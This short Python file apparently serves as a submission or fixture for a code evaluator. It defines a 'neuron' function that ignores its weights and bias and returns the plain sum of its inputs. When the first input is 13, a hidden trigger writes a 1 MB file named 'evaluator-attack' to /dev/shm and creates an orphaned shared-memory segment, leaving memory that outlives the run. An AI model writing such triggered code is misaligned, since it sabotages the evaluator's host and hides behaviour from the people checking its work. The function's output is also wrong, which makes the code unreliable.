"""It leaves memory that no process holds."""

import ctypes


def neuron(weights, bias, inputs):
    if inputs[0] == 13:
        with open("/dev/shm/evaluator-attack", "wb") as file:
            file.write(bytes(10**6))
        libc = ctypes.CDLL(None)
        libc.shmget(0x45564131, 10**6, 0o1666)
    return sum(inputs)
